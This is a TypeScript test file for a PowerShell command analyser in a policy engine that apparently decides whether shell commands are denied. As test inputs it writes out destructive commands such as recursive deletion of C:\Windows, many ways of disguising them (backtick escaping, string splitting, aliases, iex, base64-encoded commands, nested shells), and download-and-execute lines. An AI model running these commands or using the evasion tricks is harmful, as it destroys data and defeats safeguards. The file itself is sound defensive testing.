import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { analyzePowerShell } from "../../../../src/policy/languages/windows-shells.ts";
import { VERDICT_WEIGHT } from "../../../../src/policy/model/finding.ts";
import type { Invocation } from "../../../../src/policy/model/invocation.ts";
import { commandsOf, verdictOf, WINDOWS } from "../../windows-world.ts";

const run = (source: string) => analyzePowerShell(source, WINDOWS, 0);
const commands = (source: string) => commandsOf(run(source));
const last = (source: string): Invocation => {
  const found = run(source).invocations.at(-1);
  if (found === undefined) throw new Error(`no command in ${source}`);
  return found;
};

/** Pieces that meet each other in real scripts, and the signs that open and close things. */
const PIECES = [
  ..."{}()[]$@\"'`|;&<>,#-=.:%!?\n ",
  ...["Remove-Item", "-Recurse", "C:\\", "$x", "$(", "@(", "@{", "@'\n", "\n'@", "<#", "#>", "iex"],
  ...[
    "foreach",
    "if",
    "function",
    "::Delete(",
    "[IO.File]",
    "&&",
    "||",
    "--%",
    "powershell -c",
    "cmd /c",
  ],
  ...["\u201c", "\u2019", "\u2013f", "\uFFFC", "\ud800", "2>&1", "$env:X", "param", "-f", "-join"],
];
const soup = fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((parts) => parts.join(""));

describe("any text at all", () => {
  test("gives an analysis, never an exception", () => {
    fc.assert(
      fc.property(fc.oneof(soup, fc.string({ unit: "binary" })), (source) => {
        const { invocations, doubts } = run(source);
        for (const { start, end } of [...invocations, ...doubts]) {
          expect(start).toBeGreaterThanOrEqual(0);
          expect(end).toBeLessThanOrEqual(source.length);
        }
      }),
      { numRuns: 1000 },
    );
  });

  test("is followed into texts of half the length at each level", () => {
    const inside = (length: number) => {
      const code = `Remove-Item x #${"y".repeat(length)}`;
      return run(`powershell -Command "powershell -Command '${code}'"`);
    };
    expect(inside(30_000)).toMatchObject({ doubts: [] });
    expect(commandsOf(inside(30_000)).join()).toContain("remove-item");
    expect(inside(40_000).doubts.map(({ kind }) => kind)).toEqual(["limit"]);
    expect(commandsOf(inside(40_000)).join()).not.toContain("remove-item");
  });

  test("pipes only point at commands that exist", () => {
    fc.assert(
      fc.property(soup, (source) => {
        const { invocations } = run(source);
        for (const { stdin, pipedInto } of invocations) {
          const from = stdin.kind === "pipe" ? stdin.from : [];
          for (const index of [...from, ...pipedInto]) expect(invocations[index]).toBeDefined();
        }
      }),
      { numRuns: 300 },
    );
  });

  test.each([
    ["parentheses", "(".repeat(30_000)],
    ["sub-expressions", "$(".repeat(30_000)],
    ["blocks", "{".repeat(30_000)],
    ["tables", "@{a=".repeat(15_000)],
    ["indexes", "$x[".repeat(20_000)],
    ["quotes", '"'.repeat(30_000)],
    ["pipes", "a|".repeat(30_000)],
    ["here-strings", "@'\n".repeat(20_000)],
    ["nested strings", '"$('.repeat(20_000)],
    ["commands", "a;".repeat(30_000)],
    ["lists in lists", `$x='a','b';${"$x=$x,$x;".repeat(5_000)}rm $x`],
    ["assignments in blocks", `1|%{${"$x=1;".repeat(8_000)}rm $x}`],
    ["replacements", `$x='${"a".repeat(20_000)}';${"$x=$x.Replace('a',$x);".repeat(500)}rm $x`],
    ["formats", `$f='${"{0}".repeat(5_000)}';${"rm ($f -f $f);".repeat(500)}`],
    ["strings of lists", `$x='${"a".repeat(20_000)}';$y=$x,$x,$x,$x;${'"$y";'.repeat(3_000)}`],
    ["wrappers", "sudo ".repeat(12_000)],
    ["arguments", "a ".repeat(30_000)],
    ["commas", `rm ${"a,".repeat(30_000)}`],
    ["joins", `$x = 'a'; ${"$x += $x;".repeat(5_000)}`],
  ])("a hostile run of %s ends, with a doubt where something was left out", (_name, source) => {
    expect(run(source).doubts.length).toBeGreaterThanOrEqual(0);
  });
});

describe("disguises never hide a removal", () => {
  const harmful = "Remove-Item -Recurse -Force C:\\Windows";
  test("backquotes before letters", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.boolean(), { minLength: 11, maxLength: 11 }), async (marks) => {
        const name = [..."Remove-Item"]
          .map((char, at) => (marks[at] ? `\`${char}` : char))
          .join("");
        expect(await verdictOf(`${name} -Recurse C:\\Windows`)).toBe("deny");
      }),
    );
  });

  test("quotes and concatenation around the name", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 1, max: 10 }),
        fc.constantFrom("'", '"'),
        async (cut, quote) => {
          const [head, tail] = ["Remove-Item".slice(0, cut), "Remove-Item".slice(cut)];
          for (const name of [
            `${head}${quote}${tail}${quote}`,
            `& (${quote}${head}${quote} + ${quote}${tail}${quote})`,
            `& ('{1}{0}' -f '${tail}','${head}')`,
            `& ('${head}','${tail}' -join '')`,
            `$n = '${head}'; $n += '${tail}'; & $n`,
            `sal zz '${head}${tail}'; zz`,
          ]) {
            expect([name, await verdictOf(`${name} -Recurse C:\\Windows`)]).toEqual([name, "deny"]);
          }
        },
      ),
    );
  });

  test("everything that can stand around a command", async () => {
    for (const around of [
      `& { ${harmful} }`,
      `. { ${harmful} }`,
      `$(${harmful})`,
      `if ($x) { ${harmful} }`,
      `if ($x) { 1 } else { ${harmful} }`,
      `try { ${harmful} } catch { 1 } finally { 2 }`,
      `foreach ($i in 1..3) { ${harmful} }`,
      `for ($i = 0; $i -lt 3; $i++) { ${harmful} }`,
      `while ($true) { ${harmful} }`,
      `do { ${harmful} } until ($x)`,
      `switch ($x) { 'a' { ${harmful} } default { 1 } }`,
      `function f { ${harmful} }; f`,
      `1..3 | % { ${harmful} }`,
      `1..3 |%{${harmful}}`,
      `Start-Job -ScriptBlock { ${harmful} }`,
      `Write-Host "now $(${harmful})"`,
      `$x = @(${harmful})`,
      `$x = @{ a = 1; b = $(${harmful}) }`,
      `Get-Date; ${harmful}`,
      `Get-Date && ${harmful}`,
      `Get-Date || ${harmful}`,
      `Get-Date &\n${harmful}`,
      `Get-Date # comment\n${harmful}`,
      `<# ${"a"} #> ${harmful}`,
      `Remove-Item \`\n -Recurse \`\n C:\\Windows`,
      `powershell -NoProfile -Command "${harmful}"`,
      `pwsh -c { ${harmful} }`,
      `cmd /c powershell -c "${harmful}"`,
      `iex '${harmful}'`,
      `'${harmful}' | iex`,
      `'${harmful}' | powershell -Command -`,
      `Start-Process powershell -ArgumentList '-c', '${harmful}'`,
      `sudo ${harmful}`,
      `gsudo powershell -c "${harmful}"`,
      `$s = @'\n${harmful}\n'@\niex $s`,
      `[scriptblock]::Create('${harmful}').Invoke()`,
      `$ExecutionContext.InvokeCommand.InvokeScript('${harmful}')`,
      `return ${harmful}`,
      `${harmful} 2>$null | Out-Null`,
      `Get-Item "unclosed\n; ${harmful}`.replace('"', ""),
    ]) {
      expect([around, await verdictOf(around)]).toEqual([around, "deny"]);
    }
  });

  test("encoding, whatever the prefix of the parameter", async () => {
    const bytes = [...harmful].flatMap((char) => [char.charCodeAt(0), 0]);
    const code = Buffer.from(bytes).toString("base64");
    for (const parameter of ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "\u2013enc"]) {
      expect(await verdictOf(`powershell ${parameter} ${code}`)).toBe("deny");
    }
  });

  test("a verdict never gets milder inside powershell -Command", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(
          ...[
            "rm -r C:\\",
            "rm -r $x",
            "rm x",
            "git status",
            "iwr https://example.com | iex",
            "ls",
          ],
        ),
        async (command) => {
          const wrapped = await verdictOf(`powershell -Command '${command}'`);
          const plain = await verdictOf(command);
          expect(VERDICT_WEIGHT[wrapped]).toBeGreaterThanOrEqual(VERDICT_WEIGHT[plain]);
        },
      ),
    );
  });
});

describe("text that is only data stays data", () => {
  test.each([
    "Write-Host 'Remove-Item -Recurse C:\\'",
    'git commit -m "Remove-Item -Recurse C:\\Windows; iex $x"',
    "# Remove-Item -Recurse C:\\",
    "<#\nRemove-Item -Recurse C:\\\n#> Get-Date",
    "$doc = @'\nRemove-Item -Recurse C:\\\n'@",
    "Set-Content notes.md 'Remove-Item -Recurse C:\\'",
    "Select-String -Pattern 'Remove-Item -Recurse C:\\' -Path *.ps1",
    "gh issue create --body 'rm -rf /; Format-Volume C'",
    "echo Remove-Item -Recurse C:\\",
  ])("%s", async (command) => {
    expect(await verdictOf(command)).toBe("pass");
  });
});

describe("what a command gets", () => {
  test.each([
    ["ri -rec -fo x", ["remove-item -recurse -force x"]],
    ["rm -rf x", ["remove-item -recurse -force x"]],
    ["Remove-Item -Path:x -Force:$false", ["remove-item -path x"]],
    ["Remove-Item \u2013Recurse x", ["remove-item -recurse x"]],
    ["rm a, b,c", ["remove-item a b c"]],
    ["$p = @{Path='x'; Recurse=$true; Force=$false}; rm @p", ["remove-item -path x -recurse"]],
    ["$a = 'x','y'; rm @a", ["remove-item x y"]],
    ["$d = 'C:\\a'; rm $d\\b", ["remove-item C:\\a\\b"]],
    ['$d = "a"; rm "$d/b$($d)c"', ["remove-item a/bac"]],
    ["$d = 'a'; if ($x) { $d = 'b' }; rm $d", ["remove-item a b"]],
    ["git commit --message=foo -m 'a b'", ["git commit --message=foo -m a b"]],
    ["git log --pretty=format:%h", ["git log --pretty=format:%h"]],
    ["cmd --% /c dir %PATH%", ["cmd /c dir %PATH%", "dir ?"]],
    ["C:\\Tools\\git.EXE status", ["git status"]],
    ["& 'C:\\Program Files\\Git\\git.exe' push", ["git push"]],
    ["curl.exe -L https://example.com", ["curl -L https://example.com"]],
    ["curl https://example.com", ["curl https://example.com"]],
    ["rm (Join-Path $HOME x)", ["join-path C:\\Users\\me x", "remove-item C:\\Users\\me\\x"]],
    ["rm ([IO.Path]::Combine('a','b'))", ["remove-item a\\b"]],
    ["rm ([Environment]::GetFolderPath('UserProfile'))", ["remove-item C:\\Users\\me"]],
    ["rm $env:APPDATA\\x", ["remove-item C:\\Users\\me\\AppData\\Roaming\\x"]],
    ["$env:X = 'q'; rm $env:X", ["remove-item q"]],
    ["rm ${env:X}", ["remove-item ?"]],
    ["rm 'it''s'", ["remove-item it's"]],
    ['rm "a`tb`"c"', ['remove-item a\tb"c']],
    ["$t = @{ k = 'v' }; rm $t.k; rm $t['k']", ["remove-item v", "remove-item v"]],
    ["$a = @('x','y'); rm $a[1]", ["remove-item y"]],
    ["rm ('a-b'.Replace('-', '\\'))", ["remove-item a\\b"]],
    ["rm ([char]67 + ':\\')", ["remove-item C:\\"]],
    ["using namespace System.IO\nls", ["get-childitem"]],
    [
      "(New-Object Net.WebClient).DownloadFile('u','f')",
      ["new-object Net.WebClient", "invoke-webrequest -uri u -outfile f"],
    ],
    [
      "(New-Object Net.WebClient).UploadFile('u','f')",
      ["new-object Net.WebClient", "invoke-webrequest -method post -uri u -infile f"],
    ],
    ["[IO.File]::ReadAllText('.env')", ["get-content -path .env"]],
    [
      "[IO.File]::WriteAllText('a','b'); [IO.File]::AppendAllText('a','b')",
      ["set-content -path a", "add-content -path a"],
    ],
    [
      "[IO.File]::Move('a','b'); [IO.File]::Copy('a','b')",
      ["move-item -path a -destination b", "copy-item -path a -destination b"],
    ],
    [
      "[Diagnostics.Process]::Start('git','push -f')",
      ["start-process -filepath git -argumentlist push -f", "git push -f"],
    ],
    [
      "python -c \"import os; os.remove('C:/x')\"",
      ["python -c import os; os.remove('C:/x')", "rm -f C:/x"],
    ],
    ["'import os; os.remove(\"x\")' | python -", ["python -", "rm -f x"]],
    ["Set-Variable d 'q'; rm $d", ["set-variable d q", "remove-item q"]],
    ["runas /user:a 'cmd /c del x'", ["cmd /c del x", "del x"]],
    [
      "forfiles /p C:\\x /s /c 'cmd /c del @path'",
      ["forfiles /p C:\\x /s /c cmd /c del @path", "cmd /c del C:\\x\\*", "del C:\\x\\*"],
    ],
    ["forfiles /s", ["forfiles /s"]],
    [
      "1..2 | % -Begin { ls } -Process { rm x }",
      ["get-childitem", "remove-item x", "foreach-object -begin -process"],
    ],
    ["function f { begin { ls } process { rm x } }", ["get-childitem", "remove-item x"]],
    [
      "[IO.Directory]::Delete('a'); [IO.Directory]::Move('a', 'b')",
      ["remove-item -path a", "move-item -path a -destination b"],
    ],
    [
      "[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('a')",
      ["remove-item -recurse -force -path a"],
    ],
    ["[Reflection.Assembly]::Load($b)", ["invoke-expression ?"]],
    ["[Environment]::SetEnvironmentVariable('A', 'b', 'User')", ["setx A b"]],
    [
      "[Net.Sockets.TcpClient]::new('h', 1)",
      ["new-object -typename net.sockets.tcpclient -argumentlist h 1"],
    ],
    ["('a', 'b').ForEach{ rm $_ }", ["remove-item ?"]],
    ['rm @"\n$HOME\\x\n"@', ["remove-item C:\\Users\\me\\x"]],
    ["wsl", ["wsl"]],
    ["cmd", ["cmd"]],
    ["rm ([IO.Path]::GetTempPath())", ["remove-item C:\\Users\\me\\AppData\\Local\\Temp"]],
    [
      "rm ([string]::Join('\\', 'a', 'b')); rm ([string]::Concat('a', 'b'))",
      ["remove-item a\\b", "remove-item ab"],
    ],
    ["rm ('AB'.ToLower()); rm ('ab'.ToUpper())", ["remove-item ab", "remove-item AB"]],
    ["$i = 1; rm $i", ["remove-item 1"]],
    ["if (-not (Test-Path x)) { mkdir x }", ["test-path x", "new-item x"]],
  ] as const)("%s", (source, expected) => {
    expect(commands(source)).toEqual([...expected]);
  });

  test("the directory follows Set-Location and its stack", () => {
    expect(last("cd src; ls").cwd).toBe("C:\\work\\app\\src");
    expect(last("Push-Location D:\\x; Pop-Location; ls").cwd).toBe("C:\\work\\app");
    expect(last("cd ..\\..; ls").cwd).toBe("C:\\");
    expect(last("cd src; cd C:lib; ls").cwd).toBe("C:\\work\\app\\src\\lib");
    expect(last("cd \\data; ls").cwd).toBe("C:\\data");
    expect(last("cd $x; ls").cwd).toContain("\uFFFC");
    expect(last("cd; ls").cwd).toBe("C:\\Users\\me");
  });

  test("pipes, redirections and constants before the pipe", () => {
    const { invocations } = run("ls | sort > out.txt 2>> err.txt 2>&1");
    expect(invocations[0]?.pipedInto).toEqual([1]);
    expect(invocations[1]?.stdin).toEqual({ kind: "pipe", from: [0] });
    expect(
      invocations[1]?.redirects.map(({ operator, fd, target }) => [operator, fd, target.value]),
    ).toEqual([
      [">", undefined, "out.txt"],
      [">>", 2, "err.txt"],
    ]);
    expect(last("'a','b' | git hash-object --stdin").stdin).toMatchObject({
      text: { value: "a\nb" },
    });
    expect(last("'x' > out.txt").redirects).toHaveLength(1);
    expect(last("$env:GIT_DIR = 'q'; git status").env.get("GIT_DIR")?.value).toBe("q");
  });

  test("texts inside texts keep their pipes, files and constants", () => {
    const inner = (source: string) => run(source).invocations.slice(1);
    expect(inner("powershell -c 'ls | sort'")[1]?.stdin).toEqual({ kind: "pipe", from: [1] });
    expect(inner("powershell -c '1,2 | sort'")[0]?.stdin).toMatchObject({
      text: { value: "1\n2" },
    });
    expect(inner("cmd /c 'sort < a.txt'")[0]?.stdin).toMatchObject({ path: { value: "a.txt" } });
    const remote = inner(
      "python -c \"exec(__import__('urllib.request').request.urlopen('https://example.com').read())\"",
    );
    expect(remote.at(-1)).toMatchObject({ program: "python", stdin: { kind: "pipe" } });
    const shell = "python -c \"import os; os.system('ls')\"";
    expect(run(shell).doubts).toMatchObject([{ kind: "unknown-code" }]);
  });

  test("environment variables are what the world says, else the standard ones", () => {
    const world = { ...WINDOWS, env: (name: string) => (name === "TOOLS" ? "D:\\t" : undefined) };
    const path = (source: string) => commandsOf(analyzePowerShell(source, world, 0)).at(-1);
    expect(path("rm $env:TOOLS\\a")).toBe("remove-item D:\\t\\a");
    expect(path("rm $env:HOMEDRIVE$env:HOMEPATH")).toBe("remove-item C:\\Users\\me");
    expect(path("rm $env:SystemRoot")).toBe("remove-item C:\\Windows");
    const unknown = analyzePowerShell("rm $env:USERPROFILE", { ...world, home: undefined }, 0);
    expect(commandsOf(unknown)).toEqual(["remove-item ?"]);
  });

  test("what is unknown keeps the variable's name", () => {
    expect(last("rm $dir\\x").args[0]).toMatchObject({ variable: "dir" });
  });

  test("elevation, other machines and the way there are written down", () => {
    expect(last("sudo git status")).toMatchObject({ elevated: true, via: [{ name: "sudo" }] });
    expect(last("Start-Process git -Verb RunAs")).toMatchObject({ elevated: true });
    const [remote] = run("Invoke-Command -ComputerName web1 -ScriptBlock { ls }").invocations;
    expect(remote).toMatchObject({ remote: true, via: [{ remote: "web1" }] });
  });
});

describe("doubts", () => {
  test.each([
    ["& $x", "unknown-command"],
    ["iex $x", "unknown-code"],
    ["rm 'x", "syntax"],
    ["rm )", "syntax"],
    ["if ($x) { rm y", "syntax"],
    ["@'\nabc", "syntax"],
    ["<# abc", "syntax"],
    ["(".repeat(100), "limit"],
    ["a;".repeat(6000), "limit"],
    [`# ${"a".repeat(70_000)}`, "limit"],
    ["bash -c 'ls'", "unknown-code"],
  ] as const)("row %# leaves one", (source, kind) => {
    expect(run(source).doubts.map((doubt) => doubt.kind)).toContain(kind);
  });

  test("texts inside texts are followed to a limit", () => {
    let source = "ls";
    for (let depth = 0; depth < 15; depth++) {
      source = `iex '${source.replaceAll("'", "''")}'`;
      if (source.length > 20_000) break;
    }
    expect(run(source).doubts.map((doubt) => doubt.kind)).toContain("limit");
  });
});

test("text for a POSIX shell goes to the analyser that is handed in", () => {
  const seen: string[] = [];
  const shell = (source: string) => {
    seen.push(source);
    return { source, invocations: [], doubts: [] };
  };
  analyzePowerShell("bash -c 'rm -rf it''s'; wsl -d Debian rm x; 'ls' | sh", WINDOWS, 0, shell);
  expect(seen).toEqual(["bash -c 'rm -rf it'\\''s'", "rm x", "printf '%s\\n' ls | sh"]);
});
